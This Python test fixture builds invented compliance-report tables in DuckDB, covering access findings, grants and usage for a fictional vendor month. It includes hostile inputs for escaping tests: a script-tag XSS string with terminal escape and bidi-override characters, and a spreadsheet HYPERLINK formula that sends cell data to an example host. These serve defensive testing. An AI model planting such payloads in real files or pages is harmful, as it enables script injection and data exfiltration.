"""Reported tables as a run would leave them, invented from a seed: a month of a small vendor, or of a hostile one."""

import hashlib
import random
from datetime import UTC, datetime, timedelta
from typing import Any

import duckdb

from dagster_project.publishing.facts import ReportInput
from dagster_project.publishing.proofs import Proof, Tried

BEGIN = datetime(2026, 10, 1, tzinfo=UTC)
AS_OF = datetime(2026, 11, 1, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script>\x1b[31m\u202eevil\u2066=1+1"
MANY = 100  # rows of a statement
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"x")'

TABLES = """
create schema reported; create schema flagged; create schema measured; create schema ledger; create schema scrubbed;
create table scrubbed.promises (policy varchar, promise_id varchar, promised varchar);
create table reported.promises (promise_id varchar, period_start date, period_end date, policy varchar, controls varchar[], status varchar,
    checked bigint, broken bigint, reason varchar);
create table reported.evidence_end (last_at timestamptz, as_of timestamptz);
create table reported.evidence_gaps (promise_id varchar, month date, reason varchar);
create table reported.evidence_doubts (promise_id varchar, month date, reason varchar);
create table reported.findings (finding_id varchar, control varchar, promise_ids varchar[], code varchar, severity varchar, occurred_at timestamptz,
    account_id varchar, staff_id varchar, summary varchar, first_seen_at timestamptz, status varchar);
create table flagged.access_decisions (source varchar, event_id varchar, occurred_at timestamptz, staff_id varchar, account_id varchar,
    record_class varchar, outcome varchar, code varchar, nearest_grant_id varchar, all_faults varchar[], distance_s double, provisional boolean, late boolean,
    record_id varchar, record_ids varchar[], action varchar, purpose varchar, grant_id varchar);
create view flagged.access_without_grant as
    select left(sha256(concat_ws(chr(31), 'access_without_grant', source, event_id)), 32) as finding_id, * from flagged.access_decisions where outcome = 'violation';
create table flagged.access_explanations (source varchar, event_id varchar, basis varchar, sentence varchar);
create table flagged.dark_access (finding_id varchar, account_id varchar, provisional boolean);
create table reported.explained_accesses (month date, account_id varchar, basis varchar, accesses bigint);
create table reported.review_register (finding_id varchar, status varchar, reviewed_at timestamptz, reviewed_by_staff_id varchar, fault varchar, is_missing boolean);
create table reported.access_balance (inputs bigint, entries bigint, blank_or_comment bigint, not_accesses bigint, refused bigint, duplicates bigint,
    purged bigint, not_yet_known bigint, permitted bigint, info bigint, undetermined bigint, violation bigint, inputs_off bigint, sources_off bigint, is_balanced boolean);
create table scrubbed.access_events (source varchar, event_id varchar, row_count bigint, byte_count bigint);
create table scrubbed.disclosures (disclosure_id varchar, account_id varchar, recipient varchar, data_class varchar, purpose varchar, kind varchar, occurred_at timestamptz);
create table scrubbed.tags (event_id varchar, site varchar, recipient varchar, occurred_at timestamptz, account_id varchar, personal_kinds varchar[], card_numbers integer);
create table scrubbed.mailings (mailing_id varchar, account_id varchar, sent_at timestamptz, purpose varchar);
create table scrubbed.consents (consent_id varchar, account_id varchar, recipient varchar, data_classes varchar[], purpose varchar, recorded_at timestamptz);
create table scrubbed.opt_outs (account_id varchar, record_class varchar, purpose varchar, site varchar, recorded_at timestamptz);
create table scrubbed.objections (account_id varchar, policy_id varchar, recorded_at timestamptz);
create table scrubbed.accounts (account_id varchar);
create table scrubbed.staff (staff_id varchar, kind varchar, valid_from timestamptz, valid_to timestamptz);
create table flagged.known_memberships (staff_id varchar, team varchar, valid_from timestamptz, valid_to timestamptz, superseded_at timestamptz);
create table measured.account_records_daily (account_id varchar, record_class varchar, day date, records bigint, bytes bigint);
create table reported.decision_counts (month date, outcome varchar, code varchar, accesses bigint, staff bigint, accounts bigint);
create table reported.grant_register (grant_id varchar, account_id varchar, grantee_kind varchar, grantee_id varchar, valid_from timestamptz,
    valid_to timestamptz, recorded_at timestamptz, revoked_at timestamptz, state varchar, is_unbounded boolean, accesses bigint, last_used_at timestamptz);
create table reported.emergency_register (emergency_id varchar, staff_id varchar, account_id varchar, opened_at timestamptz, ttl_s bigint,
    has_reason boolean, decision varchar, decided_at timestamptz, accesses bigint, codes varchar[]);
create table reported.population (month date, folder varchar, inputs bigint, refused_inputs bigint, lines bigint, parsed bigint, quarantined bigint,
    blank_or_comment bigint, duplicates bigint, is_reconciled boolean);
create table reported.record_growth (account_id varchar, record_class varchar, day date, records bigint, bytes bigint, records_grown bigint, bytes_grown bigint);
create table reported.capacity (account_id varchar, record_class varchar, last_day date, records bigint, bytes bigint, largest_record_bytes bigint, records_per_day_7d double,
    records_per_day_30d double, records_per_day_error_30d double, records_per_day_90d double, record_limit bigint, reached_on date,
    reached_earliest date, reached_latest date);
create table measured.account_requests_daily (account_id varchar, site varchar, day date, requests bigint, client_errors bigint, server_errors bigint,
    bytes_sent bigint, bot_requests bigint, hostile_requests bigint, duration_p50_ms double, duration_p95_ms double, visitor_days bigint, late_unlinked bigint);
create table ledger.inputs (input_id varchar, folder varchar, site varchar, format varchar, parser_version varchar, bytes bigint, lines bigint,
    parsed bigint, quarantined bigint, blank_or_comment bigint, duplicates bigint, status varchar);
create table ledger.keys (key_id varchar, day date, destroy_after timestamptz, destroyed_at timestamptz);
create table ledger.releases (table_name varchar, day date, account_id varchar, cells bigint, suppressed bigint, fewest_visitors bigint,
    recoverable bigint, cells_sha256 varchar);
create table ledger.purges (rule varchar, table_name varchar, day date, input_id varchar, rows bigint, is_refused boolean, purged_at timestamptz);
"""

PROMISES = [
    ("CR-1", "Company information serves only account set-up, configuration, billing and contacting the customer.", "kept", 212, 0, None),
    ("CR-2", "Personal and employee records are not viewed or used by staff, except with the customer's permission.", "broken", 341, 17, "17 of access_without_grant"),
    ("CR-3", "Business records are not viewed or used by staff, except with the customer's permission.", "broken", 1289, 42, None),
    ("CR-4", "Only the size and quantity of business records may be reviewed, not their content.", "kept", 96, 0, None),
    ("CR-5", "Cookies serve session security, user settings and improvement.", "kept", 48210, 0, None),
    ("CR-6", "Nothing in the logs identifies a person; an account may be identified.", "kept", 48210, 0, None),
    ("CR-7", "Logs are used in aggregate, for usage patterns.", "kept", 3120, 0, None),
    ("CR-8", "E-mail and other messages received are all retained.", "unproven", 0, 0, "messages: no snapshot between 2026-10-11 and 2026-10-14."),
    ("CR-9", "Nothing is sold, and nothing is shared with third parties without prior consent.", "kept", 9, 0, None),
    ("CR-10", "Marketing tags collect no personal information, and people can opt out.", "not_applicable", None, None, "No marketing tags are used."),
    ("CR-11", "The policy changes only with notice under the licence agreement.", "kept", 2, 0, None),
]
VIOLATIONS = [("NO_GRANT", "high"), ("EXPIRED", "medium"), ("SELF_GRANTED", "critical"), ("SCOPE_RECORD", "high"), ("REVOKED", "high"), ("NOT_TEAM_MEMBER", "high")]
OUTCOMES = [
    ("permitted", "GRANTED", 1204), ("permitted", "EXEMPT_CLASS", 212), ("permitted", "EXEMPT_METRICS_ONLY", 88), ("permitted", "SELF_ACCESS", 310),
    ("permitted", "GRANTED_BOUNDARY", 3), ("permitted", "BREAK_GLASS_APPROVED", 5), ("info", "ATTEMPT_DENIED", 14), ("undetermined", "LOG_GAP", 6),
    ("undetermined", "TIME_UNZONED", 2), ("violation", "NO_GRANT", 24), ("violation", "EXPIRED", 21), ("violation", "SELF_GRANTED", 14),
]  # fmt: skip
ACCOUNTS = ["acme", "borealis", "cobalt-works", "dune", "elm-and-oak", "fjord", "gilt", None]


def finding_id(control: str, *key: str) -> str:
    """Return the id that SQL gives a finding."""
    return hashlib.sha256("\x1f".join((control, *key)).encode()).hexdigest()[:32]


def empty() -> duckdb.DuckDBPyConnection:
    """Return a connection on which every relation of a report exists and holds nothing."""
    connection = duckdb.connect()
    connection.execute("set TimeZone = 'UTC'")
    connection.execute(TABLES)
    return connection


def _put(connection: duckdb.DuckDBPyConnection, table: str, rows: list[tuple[Any, ...]]) -> None:
    """Insert rows, many at a time: one after the other takes ten thousand of them ten seconds."""
    for first in range(0, len(rows), MANY):
        part = rows[first : first + MANY]
        places = f"({', '.join('?' * len(part[0]))})"
        connection.execute(f"insert into {table} values {', '.join([places] * len(part))}", [cell for row in part for cell in row])


def month(findings: int = 59, hostile: str | None = None) -> duckdb.DuckDBPyConnection:
    """Return a connection that holds a month with so many findings; `hostile` text takes the place of free text and ids."""
    connection, chance = empty(), random.Random(7)
    for policy_row in PROMISES:
        name, promised, status, checked, broken, reason = policy_row
        connection.execute("insert into scrubbed.promises values ('clientrunner', ?, ?)", [name, hostile or promised])
        connection.execute(
            "insert into reported.promises values (?, '2026-10-01', '2026-11-01', 'clientrunner', ['access_without_grant'], ?, ?, ?, ?)",
            [name, status, checked, broken, reason],
        )
    gap = hostile or "a gap in console from 2026-10-11 02:00 to 2026-10-11 02:30"
    connection.executemany(
        "insert into reported.evidence_gaps values (?, ?, ?)", [("CR-3", "2026-10-01", gap), ("CR-2", "2026-10-01", gap), ("CR-2", "2026-09-01", "no input in grants/")]
    )
    connection.execute("insert into reported.evidence_end values ('2026-10-31T23:00:00Z', '2026-11-01T00:00:00Z')")
    connection.execute("insert into reported.evidence_doubts values ('CR-2', '2026-10-01', '6 accesses are undetermined')")
    connection.executemany("insert into reported.decision_counts values ('2026-10-01', ?, ?, ?, 6, 5)", OUTCOMES)
    _findings(connection, findings, chance, hostile)
    _grants(connection, chance, hostile)
    _usage(connection, chance, hostile)
    _ledgers(connection)
    return connection


def _findings(connection: duckdb.DuckDBPyConnection, findings: int, chance: random.Random, hostile: str | None) -> None:
    found: list[tuple[Any, ...]] = []
    decided: list[tuple[Any, ...]] = []
    for number in range(findings):
        code, severity = chance.choice(VIOLATIONS)
        at = BEGIN + timedelta(seconds=chance.randrange(31 * 86400))
        staff, account = f"s-{chance.randrange(9):02d}", ACCOUNTS[chance.randrange(7)]
        event = f"ev-{number:05d}"
        summary = hostile or f"{staff} read an employee record of {account} on {at:%Y-%m-%d} at {at:%H:%M} UTC without a permission that covers it."
        key = finding_id("access_without_grant", "service", event)
        found.append((key, "access_without_grant", ["CR-2", "CR-3"], code, severity, at, hostile or account, staff, summary, AS_OF, "new"))
        nearest = None if code == "NO_GRANT" else hostile or f"g-{chance.randrange(40):03d}"
        faults = [code, "SCOPE_CASE"] if number % 5 == 0 else [code]
        distance = chance.choice([0.0, 75.0, 5400.0, 260000.0])
        decided.append(("service", event, at, staff, hostile or account, "employee", "violation", code, nearest, faults, distance, number % 9 == 0, number % 11 == 0))
    at = BEGIN + timedelta(days=9, hours=3)
    dark = "A request of s-04 to a route of customer records has no access event within 60 s: the audit log has a hole."
    found.append((finding_id("dark_access", "1"), "dark_access", ["CR-2"], "DARK_ACCESS", "critical", at, "dune", "s-04", hostile or dark, AS_OF, "acknowledged"))
    weak = "Grant g-007 of fjord has no end."
    found.append((finding_id("grant_weaknesses", "g-007"), "grant_weaknesses", [], "GRANT_UNBOUNDED", "low", at, "fjord", None, hostile or weak, AS_OF, "new"))
    for number, (code, stamp) in enumerate([("LOG_GAP", at), ("LOG_GAP", at + timedelta(hours=2)), ("TIME_UNZONED", None)]):
        decided.append(("service", hostile or f"gap-{number}", stamp, "s-02", "gilt", "employee", "undetermined", code, None, [], None, False, False))
    _put(connection, "reported.findings", found)
    granted = ("service", "granted", at, "s-01", "dune", "employee", "permitted", "GRANTED", hostile or "g-011", [], 0.0, False, False)
    told = ("r-1", None, "read", hostile or "support", hostile or "g-001")
    _put(connection, "flagged.access_decisions", [(*row, *told) for row in (*decided, granted)])
    connection.execute("insert into scrubbed.disclosures values ('d-1', 'dune', ?, 'employee', 'payroll', 'processor', ?)", [hostile or "Ledgerly", at])
    _shared(connection, at, hostile)
    connection.execute("insert into measured.account_records_daily select 'dune', 'employee', date '2026-10-01' + cast(range as integer), 120 + range, 96000 from range(31)")
    sentence = "Staff s-01 read an employee record of a customer; the sentence says why."
    bases = "case code when 'GRANTED' then 'grant' else outcome end"
    connection.execute(f"insert into flagged.access_explanations select source, event_id, {bases}, ? from flagged.access_decisions", [hostile or sentence])
    connection.execute("insert into flagged.dark_access values (?, 'dune', true)", [finding_id("dark_access", "1")])
    explained = [("grant", 1207), ("exemption", 88), ("declared_purpose", 212), ("own_user", 310), ("emergency", 5), ("nothing_seen", 14), ("undetermined", 8), ("violation", 59)]
    connection.executemany("insert into reported.explained_accesses values ('2026-10-01', ?, ?, ?)", [(hostile or "gilt", *each) for each in explained])
    reviews = [
        (finding_id("dark_access", "1"), "justified", AS_OF, "s-04", "REVIEWER_UNDER_REVIEW", False),
        (hostile or "f-9", "acknowledged", AS_OF, "s-05", "FINDING_UNKNOWN", False),
        (finding_id("grant_weaknesses", "g-007"), "acknowledged", AS_OF, "s-05", None, True),
    ]
    connection.executemany("insert into reported.review_register values (?, ?, ?, ?, ?, ?)", reviews)


def _shared(connection: duckdb.DuckDBPyConnection, at: datetime, hostile: str | None) -> None:
    """Fill in what went to others and to the customer, what she refused, and who was in which team."""
    put = connection.executemany
    put("insert into scrubbed.tags values (?, 'web', 'Example Tags', ?, ?, ?, ?)", [("t-1", at, "dune", ["email"], 1), ("t-2", at, "acme", [], 0), ("t-3", at, None, [], 0)])
    put("insert into scrubbed.mailings values (?, ?, ?, ?)", [("m-1", "dune", at, hostile or "marketing"), ("m-2", "acme", at, "billing"), ("m-3", "dune", AS_OF, "billing")])
    put("insert into scrubbed.consents values (?, ?, 'Ledgerly', ['employee', 'job'], 'payroll', ?)", [("c-1", "dune", at), ("c-2", "acme", at)])
    put("insert into scrubbed.opt_outs values (?, null, ?, ?, ?)", [("dune", "marketing", "web", at), ("dune", None, None, at), ("gilt", None, None, at)])
    put("insert into scrubbed.objections values (?, 'p-2', ?)", [("dune", at), ("fjord", at)])
    put("insert into scrubbed.staff values (?, ?, ?, null)", [("s-01", "person", BEGIN), ("s-08", "service", None)])
    left = BEGIN + timedelta(days=15)
    teams = [
        ("s-01", hostile or "support", BEGIN, None, None),
        ("s-01", "billing", BEGIN, left, None),
        ("s-08", "night shift", BEGIN, None, AS_OF),
        ("s-08", "sales", left, None, None),
    ]
    put("insert into flagged.known_memberships values (?, ?, ?, ?, ?)", teams)


def _grants(connection: duckdb.DuckDBPyConnection, chance: random.Random, hostile: str | None) -> None:
    rows = []
    for number in range(24):
        begin = BEGIN + timedelta(days=chance.randrange(-40, 30), hours=chance.randrange(24))
        is_open, is_revoked = number % 7 == 0, number % 6 == 1
        end = None if is_open else begin + timedelta(days=chance.randrange(2, 45))
        revoked = begin + timedelta(days=1) if is_revoked else None
        state = "revoked" if revoked else "expired" if end and end < AS_OF else "active"
        used = chance.choice([0, 0, 1, 4, 31])
        grantee = ("team", "support") if number % 3 else ("person", f"s-{number % 9:02d}")
        last = begin + timedelta(hours=5) if used else None
        rows.append((hostile or f"g-{number:03d}", ACCOUNTS[number % 7], *grantee, begin, end, begin, revoked, state, is_open, used, last))
    _put(connection, "reported.grant_register", rows)
    opened = BEGIN + timedelta(days=17, hours=2)
    emergencies = [
        ("em-1", "s-03", "acme", opened, 3600, True, "approve", opened + timedelta(hours=5), 5, ["BREAK_GLASS_APPROVED"]),
        (hostile or "em-2", "s-08", "dune", opened + timedelta(days=3), 7200, False, None, None, 1, ["BREAK_GLASS_NO_REASON"]),
        ("em-3", "s-08", "fjord", opened + timedelta(days=8), 900, True, "reject", opened + timedelta(days=9), 2, ["BREAK_GLASS_REJECTED"]),
    ]
    _put(connection, "reported.emergency_register", emergencies)


def _usage(connection: duckdb.DuckDBPyConnection, chance: random.Random, hostile: str | None) -> None:
    rows = []
    for place, account in enumerate(ACCOUNTS):
        for number in range(31):
            day = (BEGIN + timedelta(days=number)).date()
            requests = int((9000 / (place + 1)) * (0.35 if day.weekday() > 4 else 1) * chance.uniform(0.8, 1.2))
            name = hostile if hostile and place == 3 else account
            rows.append((name, "service", day, requests, requests // 50, requests // 900, requests * 2_400, requests // 8, 3, 21.0, 180.5, requests // 30, 0))
    _put(connection, "measured.account_requests_daily", rows)
    capacity = [
        ("acme", "jobs", "2026-10-31", 81230, 812_300_000, 40_000, 230.1, 212.25, 8.5, 190.0, 100000, "2027-01-28", "2027-01-21", "2027-02-05"),
        ("borealis", "jobs", "2026-10-31", 1204, 9_100_000, None, -3.5, -2.25, 0.75, 1.5, 100000, None, None, None),
        (hostile or "dune", "jobs", "2026-10-31", 12, 4096, 512, None, None, None, None, None, None, None, None),
    ]
    _put(connection, "reported.capacity", capacity)
    growth = [
        (account, "jobs", (BEGIN + timedelta(days=number)).date(), records + number * step, 1000 * (records + number * step), step, 1000 * step)
        for account, records, step in (("acme", 74330, 230), ("borealis", 1312, -4), (hostile or "dune", 12, 0))
        for number in range(0, 31, 1 if step else 10)
    ]
    _put(connection, "reported.record_growth", growth)


def _ledgers(connection: duckdb.DuckDBPyConnection) -> None:
    population = [
        ("access_events", 4, 0, 1903, 1901, 2, 0, 7, True),
        ("grants", 2, 0, 41, 40, 0, 1, 3, True),
        ("request_logs", 31, 0, 640112, 640071, 12, 29, 0, True),
        ("web_logs", 31, 1, 210554, 210200, 300, 54, 0, True),
    ]
    connection.executemany("insert into reported.population values ('2026-10-01', ?, ?, ?, ?, ?, ?, ?, ?, ?)", population)
    connection.execute("insert into reported.access_balance values (4, 1910, 0, 0, 2, 7, 0, 0, 1822, 14, 6, 59, 0, 0, true)")
    inputs = [(finding_id("input", str(number)), "web_logs", "shop", "combined", "1", 4096 * number, number, number, 0, 0, 0, "read") for number in range(1, 32)]
    _put(connection, "ledger.inputs", inputs)
    for number in range(31):
        day = BEGIN + timedelta(days=number)
        connection.execute("insert into ledger.keys values (?, ?, ?, ?)", [f"{number:016x}", day.date(), day + timedelta(days=2), day + timedelta(days=2)])
    for name in ("account_clients_daily", "account_routes_daily", "site_pages_daily", "site_referrers_daily"):
        connection.execute("insert into ledger.releases values (?, '2026-10-04', null, 812, 133, 10, 0, 'x')", [f"measured.{name}"])
    for number, is_refused in ((4000, False), (12, True)):
        day = BEGIN + timedelta(days=number % 7)
        connection.execute("insert into ledger.purges values ('request_days', 'scrubbed.requests', ?, 'i1', ?, ?, ?)", [day.date(), number, is_refused, BEGIN + timedelta(days=12)])
    connection.execute("insert into ledger.purges values ('request_days', 'scrubbed.requests', '2026-10-09', 'i2', 99, false, ?)", [AS_OF + timedelta(days=1)])


def report(connection: duckdb.DuckDBPyConnection, account: str | None = None) -> ReportInput:
    """Return the input of a report of October 2026."""
    tried = (Tried("invented persons", True, "84 kinds of identifier in 32,564 lines of 23 log formats; 263 files were searched: 0 leaks."),)
    proof = Proof(datetime(2026, 10, 25, 4, tzinfo=UTC), "5e" * 32, "0.1.0", canaries=84, formats=23, sinks=5, leaks=0, tried=tried)
    return ReportInput(connection, "2026-10", AS_OF, "5e" * 32, "0.1.0", proof, account)
